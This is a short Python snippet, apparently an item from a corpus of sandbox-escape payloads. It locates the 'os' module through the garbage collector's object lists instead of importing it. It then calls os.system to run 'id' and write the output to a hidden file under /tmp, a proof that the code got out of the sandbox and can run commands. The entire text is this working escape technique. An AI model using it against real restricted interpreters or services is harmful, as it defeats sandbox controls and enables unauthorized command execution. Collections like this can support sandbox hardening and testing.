# corpus: scan gc.get_objects for a live module object named os and call its system attribute
import gc

def live_module(wanted):
    for obj in gc.get_objects():
        if type(obj).__name__ == "module" and getattr(obj, "__name__", None) == wanted:
            return obj
    for obj in gc.get_referents(*gc.get_referrers(gc)):
        if isinstance(obj, dict) and obj.get("__name__") == wanted:
            return type("M", (), obj)
    return None

m = live_module("os")
if m is not None:
    vars(m)["system"]("id > /tmp/.gc_owned")
